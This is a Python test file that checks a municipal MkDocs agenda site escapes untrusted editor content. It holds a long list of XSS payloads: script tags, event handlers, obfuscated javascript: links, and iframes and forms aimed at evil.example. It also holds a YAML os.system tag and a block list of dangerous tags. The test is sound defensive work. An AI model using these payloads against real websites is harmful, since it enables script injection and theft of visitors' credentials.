"""Contributed text is untrusted: script-injection payloads in every place an editor writes.

One real site is built with every payload in every contributed place (goal title, result,
relation note and body; theme title, opgave and narrative; chapter title and body), and one
with the same structure but harmless text. Every built page of the first must carry exactly
the scripts, forms and other active elements the second carries: nothing from the content.
"""

from __future__ import annotations

import re
import textwrap
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml
from sitebuild import REPO, AgendaSite, BuildResult, goal_file, theme_file

PAYLOADS: list[tuple[str, str]] = [
    ("script", "<script>alert('script')</script>"),
    ("img-onerror", '<img src=x onerror="alert(1)">'),
    ("a-javascript", '<a href="javascript:alert(1)">klik</a>'),
    ("a-javascript-mixed-case", '<a href="JaVaScRiPt:alert(1)">klik</a>'),
    ("a-javascript-entities", '<a href="&#106;avascript:alert(1)">klik</a>'),
    ("a-javascript-whitespace", '<a href=" java&#x09;script:alert(1)">klik</a>'),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">klik</a>'),
    ("md-javascript", "[klik](javascript:alert(1))"),
    ("md-javascript-entities", "[klik](&#106;avascript:alert(1))"),
    ("md-data", "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("md-image-javascript", "![plaatje](javascript:alert(1))"),
    ("md-reference-javascript", "[klik][evil]\n\n[evil]: javascript:alert(1)"),
    ("svg-onload", '<svg onload="alert(1)"><circle r="1"/></svg>'),
    ("iframe", '<iframe src="https://evil.example/"></iframe>'),
    ("style", "<style>body { display: none }</style>"),
    ("attr-list", 'Klik hier\n{ onclick="alert(1)" }'),
    ("attr-list-inline", '[klik](https://example.org/){ onmouseover="alert(1)" }'),
    ("attr-list-href", '[klik](https://example.org/){ href="javascript:alert(1)" }'),
    ("md-in-html", '<div markdown="1" onclick="alert(1)">*tekst*</div>'),
    ("escaped-script", "&lt;script&gt;alert('escaped')&lt;/script&gt;"),
    ("jinja-expression", "{{ 7*7 }}"),
    ("jinja-statement", "{% raw %}rauw{% endraw %} {# commentaar #}"),
    ("html-comment", "<!-- <script>alert(1)</script> -->"),
    ("form", '<form action="https://evil.example/"><input name="wachtwoord">'
             '<button formaction="javascript:alert(1)">ok</button></form>'),
    ("object-embed", '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">'),
    ("base", '<base href="https://evil.example/">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    ("close-title", "</title><script>alert('title')</script>"),
    ("attribute-breakout", "\" onmouseover=\"alert(1)\" x=\""),
    ("admonition-title", '!!! note "<img src=x onerror=alert(1)>"\n    tekst'),
    ("details-summary", '??? note "<script>alert(1)</script>"\n    tekst'),
    ("abbr-title", 'Een GGD.\n\n*[GGD]: " onmouseover="alert(1)'),
]
SAFE_MARKDOWN = textwrap.dedent("""\
    Een [gewone link](https://www.leiderdorp.nl/), een [interne link](../inleiding/) en
    [mail](mailto:info@example.org), met *nadruk* en **sterke nadruk**.[^bron]

    - eerste punt
    - tweede punt

    In stappen:

    1. stap een
    2. stap twee

    | Thema | Doelen |
    | --- | --- |
    | Wonen | 2 |

    [^bron]: Een voetnoot met bron.
    """)
DANGEROUS = {"script", "style", "link", "meta", "base", "iframe", "frame", "frameset", "object", "embed",
             "applet", "form", "input", "button", "textarea", "select", "svg", "math"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset"}


def payload_content(site: AgendaSite, texts: list[str]) -> None:
    """Per text: a theme, a goal related to an existing goal, and a chapter, each holding it everywhere."""
    nav: list[str] = []
    for index, text in enumerate(texts, start=1):
        body = f"{text}\n\n## Kop {text}\n\n- punt {text}\n"
        # Markup in a title is refused by the validator (see below).
        title = text if "<" not in text and ">" not in text else ""
        site.write(f"content/themas/thema-{index}.md", theme_file(
            f"Thema {index} {title}", f"Opgave {text}", index + 2, body))
        site.write(f"goals/meer-doel-{index}.md", goal_file(
            f"Meer {index} {title}", f"thema-{index}", "meer", 1, [f"resultaat {text}"],
            [("meer-bewegen", f"Noot {text}")], body))
        site.write(f"content/hoofdstuk-{index}.md", chapter_file(f"Hoofdstuk {index} {title}", body))
        nav.append(f"hoofdstuk-{index}.md")
    site.write("content/opmaak.md", f"---\ntitle: Opmaak\n---\n\n{SAFE_MARKDOWN}")
    site.config["nav"] = [*site.config["nav"], "opmaak.md", *nav]
    # The Markdown extensions the real site enables (admonitions, details, abbreviations).
    site.config["markdown_extensions"] = yaml.safe_load((REPO / "mkdocs.yml").read_text("utf-8"))[
        "markdown_extensions"]
    site.write_config()


def chapter_file(title: str, body: str) -> str:
    return f"---\n{yaml.safe_dump({'title': title}, allow_unicode=True)}---\n\n{body}"


class PageScan(HTMLParser):
    """Every start tag of a page, and the scripts with their contents."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.scripts: list[tuple[str | None, str]] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))
        if tag == "script":
            self.scripts.append((dict(attrs).get("src"), ""))
            self._in_script = True

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            src, text = self.scripts[-1]
            self.scripts[-1] = (src, text + data)

    def active(self) -> list[tuple[str, list[tuple[str, str | None]]]]:
        return [(tag, attrs) for tag, attrs in self.tags if tag in DANGEROUS]


def scan(path: Path) -> PageScan:
    parser = PageScan()
    parser.feed(path.read_text("utf-8"))
    parser.close()
    return parser


def unsafe_url(value: str) -> bool:
    # Browsers ignore whitespace and control characters inside a scheme ("java\tscript:").
    compact = re.sub(r"[\x00-\x20]", "", value).lower()
    return compact.startswith(("javascript:", "vbscript:", "data:"))


@pytest.fixture(scope="module")
def builds(tmp_path_factory: pytest.TempPathFactory) -> tuple[BuildResult, BuildResult]:
    hostile = AgendaSite(tmp_path_factory.mktemp("hostile"))
    payload_content(hostile, [text for _, text in PAYLOADS])
    clean = AgendaSite(tmp_path_factory.mktemp("clean"))
    payload_content(clean, [f"veilige tekst {index}" for index in range(1, len(PAYLOADS) + 1)])
    return hostile.build(), clean.build()


def pages(result: BuildResult) -> list[Path]:
    return sorted(result.site.rglob("*.html"))


def test_both_sites_have_the_same_pages(builds) -> None:
    hostile, clean = builds
    names = [p.relative_to(hostile.site) for p in pages(hostile)]
    assert names == [p.relative_to(clean.site) for p in pages(clean)]
    assert len(names) > 3 * len(PAYLOADS)


def test_no_script_other_than_the_sites_own(builds) -> None:
    hostile, clean = builds
    for page in pages(hostile):
        expected = scan(clean.site / page.relative_to(hostile.site)).scripts
        assert scan(page).scripts == expected, page


def test_no_active_element_from_content(builds) -> None:
    """Forms, frames, objects, base, meta refresh, styles: only those in the clean build's chrome."""
    hostile, clean = builds
    for page in pages(hostile):
        expected = scan(clean.site / page.relative_to(hostile.site)).active()
        assert scan(page).active() == expected, page


def test_no_event_handler_and_no_script_url(builds) -> None:
    hostile, _ = builds
    for page in pages(hostile):
        for tag, attrs in scan(page).tags:
            handlers = [name for name, _ in attrs if name.startswith("on")]
            assert handlers == [], f"{page}: <{tag}> {attrs}"
            urls = [(name, value) for name, value in attrs if name in URL_ATTRIBUTES and value and unsafe_url(value)]
            assert urls == [], f"{page}: <{tag}> {urls}"


def test_template_syntax_in_content_is_shown_literally(builds) -> None:
    hostile, _ = builds
    expression = PAYLOADS.index(("jinja-expression", "{{ 7*7 }}")) + 1
    statement = [name for name, _ in PAYLOADS].index("jinja-statement") + 1
    literal = "{% raw %}rauw{% endraw %} {# commentaar #}"
    for path in (f"doelen/meer-doel-{expression}/", f"themas/thema-{expression}/", f"hoofdstuk-{expression}/"):
        article = hostile.article(path)
        assert "{{ 7*7 }}" in article and "49" not in article, path
    for path in (f"doelen/meer-doel-{statement}/", f"themas/thema-{statement}/", f"hoofdstuk-{statement}/"):
        assert literal in hostile.article(path), path
    goal = hostile.article(f"doelen/meer-doel-{expression}/")
    assert re.search(rf"<h1 [^>]*>Meer {expression} {{{{ 7\*7 }}}}<a ", goal)
    assert "<li>resultaat {{ 7*7 }}</li>" in goal and "Noot {{ 7*7 }}" in goal
    assert "Opgave {{ 7*7 }}" in goal
    related = hostile.article("doelen/meer-bewegen/")
    assert f"Noot {literal}" in related and f"Meer {statement} {literal}" in related and "49" not in related


def test_markup_in_fields_stays_visible_text(builds) -> None:
    """A result, note or opgave holding markup shows it as text, so the editor sees what they wrote."""
    hostile, _ = builds
    index = [name for name, _ in PAYLOADS].index("script") + 1
    # Jinja writes ' as &#39; where the sanitiser writes it bare; both show a quote.
    article = hostile.article(f"doelen/meer-doel-{index}/").replace("&#39;", "'")
    shown = "&lt;script&gt;alert('script')&lt;/script&gt;"
    assert f"<li>resultaat {shown}</li>" in article
    assert f"Noot {shown}" in hostile.article("doelen/meer-bewegen/").replace("&#39;", "'")
    assert f"Opgave {shown}" in article


def test_search_index_holds_no_active_markup(builds) -> None:
    """Material's search shows titles and snippets from the index as HTML."""
    hostile, _ = builds
    index = hostile.json("search/search_index.json")
    for doc in index["docs"]:
        parser = PageScan()
        parser.feed(f"{doc['title']} {doc['text']}")
        parser.close()
        active = [(tag, attrs) for tag, attrs in parser.tags
                  if tag in DANGEROUS or tag == "img" or any(name.startswith("on") for name, _ in attrs)]
        assert active == [], doc["location"]


TITLE_CASES = [
    ("goal", "goals/meer-woningen.md", goal_file("Meer <script>alert(1)</script>", "wonen", "meer", 1, ["x."]),
     "goals/meer-woningen.md, line 2: 'title' must be plain text, without '<' or '>' "
     "(got 'Meer <script>alert(1)</script>')"),
    ("theme", "content/themas/wonen.md", theme_file("</title><script>alert(1)</script>", "Opgave.", 1),
     "content/themas/wonen.md, line 2: 'title' must be plain text, without '<' or '>' "
     "(got '</title><script>alert(1)</script>')"),
    ("chapter", "content/inleiding.md", chapter_file('<img src=x onerror="alert(1)">', "Tekst."),
     "content/inleiding.md, line 2: 'title' must be plain text, without '<' or '>' "
     "(got '<img src=x onerror=\"alert(1)\">')"),
    ("chapter-template", "content/inleiding.md",
     "---\ntitle: Inleiding\ntemplate: redirect.html\nlocation: javascript:alert(1)\n---\n",
     "content/inleiding.md, line 3: unknown field 'template'; allowed fields: title"),
    ("chapter-description", "content/inleiding.md",
     '---\ntitle: Inleiding\ndescription: \'" onmouseover="alert(1)\'\n---\n',
     "content/inleiding.md, line 3: unknown field 'description'; allowed fields: title"),
]


@pytest.mark.parametrize(("path", "text", "message"), [c[1:] for c in TITLE_CASES], ids=[c[0] for c in TITLE_CASES])
def test_markup_in_a_title_or_theme_setting_fails_the_build(tmp_path: Path, path: str, text: str,
                                                            message: str) -> None:
    """The theme writes titles and other front matter into pages unescaped, so the validator refuses them."""
    site = AgendaSite(tmp_path)
    site.write(path, text)
    site.build_fails(message)


def test_legitimate_markdown_still_works_in_the_same_build(builds) -> None:
    hostile, _ = builds
    article = hostile.article("opmaak/")
    assert '<a href="https://www.leiderdorp.nl/">gewone link</a>' in article
    assert '<a href="../inleiding/">interne link</a>' in article
    assert '<a href="mailto:info@example.org">mail</a>' in article
    assert "<em>nadruk</em>" in article and "<strong>sterke nadruk</strong>" in article
    assert re.search(r"<ul>\s*<li>eerste punt</li>\s*<li>tweede punt</li>\s*</ul>", article)
    assert re.search(r"<ol>\s*<li>stap een</li>\s*<li>stap twee</li>\s*</ol>", article)
    assert re.search(r"<table>\s*<thead>\s*<tr>\s*<th>Thema</th>", article)
    assert re.search(r"<td>Wonen</td>\s*<td>2</td>", article)
    assert re.search(r'<sup id="fnref:bron"><a class="footnote-ref" href="#fn:bron"', article)
    assert re.search(r'<li id="fn:bron">\s*<p>Een voetnoot met bron\.', article)


def test_a_python_tag_in_front_matter_runs_nothing(tmp_path: Path) -> None:
    """The safe YAML loader refuses '!!python/…' tags instead of constructing (running) them."""
    marker = tmp_path / "uitgevoerd"
    site = AgendaSite(tmp_path / "agenda")
    site.write("goals/meer-woningen.md", f"---\ntitle: !!python/object/apply:os.system ['touch {marker}']\n"
                                         "theme: wonen\ndirection: meer\norder: 2\nresults: []\n---\n")
    result = site.build(check=False)
    assert result.returncode != 0
    assert "goals/meer-woningen.md, line 2: YAML tag '!!python/object/apply:os.system' is not allowed" in result.output
    assert not marker.exists()
